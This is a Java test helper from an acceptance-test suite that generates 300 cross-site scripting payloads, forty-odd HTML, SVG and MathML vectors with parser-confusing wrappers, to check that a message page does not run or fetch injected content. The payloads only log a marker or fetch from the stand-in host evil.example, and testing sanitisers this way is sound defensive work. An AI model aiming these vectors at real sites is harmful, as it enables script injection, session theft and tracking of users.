// SPDX-License-Identifier: Apache-2.0
package fr.mercure.acceptance;

import java.util.ArrayList;
import java.util.List;

/// Three hundred ways to make a page that shows a message run a script or fetch something: forty
/// vectors, each as it is and in coats that parsers have been seen to mistake.
///
/// A script that runs says {@link #WORD} on the console; whatever is fetched goes to {@link #HOST}.
final class XssPayloads {
  static final String WORD = "mercure-xss";
  static final String HOST = "evil.example";

  private static final String RUN = "console.log('" + WORD + "')";

  private static final List<String> VECTORS =
      List.of(
          "<script>RUN</script>",
          "<ScRiPt src=//HOST/a.js></sCrIpT>",
          "<script/x>RUN</script>",
          "<svg><script>RUN</script></svg>",
          "<svg onload=RUN>",
          "<svg><animate onbegin=RUN attributeName=x dur=1s>",
          "<svg><a xlink:href='javascript:RUN'><text y=20>x</text></a></svg>",
          "<svg><use href='data:image/svg+xml,<svg onload=RUN>'></use></svg>",
          "<svg><foreignObject><iframe srcdoc='<script>RUN</script>'></iframe></foreignObject></svg>",
          "<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table>",
          "<math href='javascript:RUN'>x</math>",
          "<img src=x onerror=RUN>",
          "<img src=//HOST/pixel.png>",
          "<img srcset='https://HOST/a 1x'>",
          "<img src=`x` onerror=RUN>",
          "<img/src=x/onerror=RUN>",
          "<img src='x' style='background:url(https://HOST/b)'>",
          "<picture><source srcset=//HOST/c><img></picture>",
          "<body onload=RUN>",
          "<iframe src='javascript:RUN'></iframe>",
          "<iframe srcdoc='<script>RUN</script>'></iframe>",
          "<object data='data:text/html,<script>RUN</script>'></object>",
          "<embed src='//HOST/d.swf'>",
          "<video src=//HOST/e onerror=RUN autoplay></video>",
          "<audio><source src=x onerror=RUN></audio>",
          "<details open ontoggle=RUN>x</details>",
          "<input autofocus onfocus=RUN>",
          "<select autofocus onfocus=RUN></select>",
          "<form action=//HOST/f><button autofocus onfocus=RUN>x</button></form>",
          "<meta http-equiv=refresh content='0;url=//HOST/g'>",
          "<base href=//HOST/><img src=h.png>",
          "<link rel=stylesheet href=//HOST/i.css>",
          "<style>@import '//HOST/j.css';body{background:url(//HOST/k)}</style>",
          "<div style='background-image:url(//HOST/l);width:expression(RUN)'>x</div>",
          "<p style=\"font-family:'x';background:\\75rl(//HOST/m)\">x</p>",
          "<table background=//HOST/n><tr><td>x</table>",
          "<a href='javascript:RUN' id=x autofocus onfocus=RUN>x</a>",
          "<a href='&#106;avascript:RUN' onmouseover=RUN style='position:fixed;inset:0'>x</a>",
          "<template><script>RUN</script></template><noscript><p title='</noscript><img src=x onerror=RUN>'>",
          "<xmp><p title='</xmp><img src=x onerror=RUN>'></xmp>",
          "<textarea></textarea><img src=x onerror=RUN>",
          "<title></title><img src=x onerror=RUN>",
          "<marquee onstart=RUN>x</marquee>");

  private static final List<String> COATS =
      List.of(
          "%s",
          "<!--><p>%s<!-- -->",
          "<p title='\">%s'>%s",
          "<![CDATA[%s]]>%s",
          "\0<b\0>%s</b>",
          "<svg></p><style><a id=\"</style>%s\">",
          "</iframe></textarea></title></style>%s");

  private XssPayloads() {}

  static List<String> all() {
    var all = new ArrayList<String>();
    for (String coat : COATS) {
      for (String vector : VECTORS) {
        all.add(coat.replace("%s", vector).replace("RUN", RUN).replace("HOST", HOST));
      }
    }
    return all.subList(0, 300);
  }
}
